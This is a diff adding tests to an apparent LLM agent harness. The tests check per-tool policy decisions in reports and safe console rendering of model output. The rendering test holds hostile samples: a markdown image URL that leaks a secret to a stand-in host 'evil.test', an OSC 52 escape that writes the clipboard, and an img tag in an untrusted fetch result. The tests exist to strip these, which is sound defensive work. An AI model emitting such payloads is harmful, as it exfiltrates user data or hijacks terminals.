@@ -286,3 +286,39 @@ def test_the_story_model_runs_the_example_end_to_end(stories_path, tmp_path, cap
     assert any(e["kind"] == "result" and e["data"]["name"] == "calculator" for e in transcript["events"])
     assert (out / "task.yaml").read_text() == task_file.read_text()
     assert "<h2>Tool calls</h2>" in (out / "report.html").read_text()
+
+
+def test_reports_list_each_calls_policy_decision_and_its_reasons(tmp_path):
+    script = [call("calculator", expression="6*7"), call("plot", title="x"), f"{EVIL}{END}"]
+    fields = {"policy": {"tools": {"plot": "deny"}}}
+    result = runner.run_task(task(**fields), options(tmp_path, script))
+    markdown = (result.folder / "report.md").read_text()
+    calculator, plot_section = markdown.split("### calculator")[1].split("### plot")
+    assert "- policy: **allow**" in calculator and "read-only tool" in calculator
+    assert "- policy: **deny**" in plot_section and "configured: plot -> deny" in plot_section
+    assert "context: untrusted pages [none]" in calculator  # every reason, not only the first
+    page = (result.folder / "report.html").read_text()
+    assert "policy: <strong>deny</strong>" in page and "<li>configured: plot -&gt; deny</li>" in page
+
+
+def test_the_console_shows_model_text_safely(tmp_path, capsys):
+    from llmos_shell import cli
+
+    from llmos.policy.render import SafeStream
+
+    out, err, stream = io.StringIO(), io.StringIO(), SafeStream()
+    escape = "\x1b]52;c;cGF5bG9hZA==\x07"  # OSC 52: write the clipboard
+    for start in range(0, len(EVIL + escape), 2):
+        cli._show(Token((EVIL + escape)[start : start + 2]), stream, out, err)
+    cli._show(CallEvent("call_1", "fetch", {"url": "![i](http://evil.test/x)" + escape}, ""), stream, out, err)
+    cli._show(
+        ResultEvent("call_1", "fetch", "<img src=http://evil.test/r>", False, "untrusted", "", 0.1), stream, out, err
+    )
+    shown = out.getvalue() + stream.finish() + err.getvalue()
+    assert "evil.test/leak?q=secret" in shown and "![" not in shown and "<img" not in shown and "\x1b" not in shown
+    result = runner.RunResult(tmp_path, "answer", 0, EVIL + escape)
+    cli._finish(type("Args", (), {"json": False})(), [result])
+    printed = capsys.readouterr().out
+    assert "[image: x ‹http://evil.test/leak?q=secret›]" in printed and "<img" not in printed and "\x1b" not in printed
+    line = runner.describe(CallEvent("call_2", "fetch", {"url": "![i](http://evil.test/x)"}, ""))
+    assert "![" not in line and "[image: i ‹http://evil.test/x›]" in line
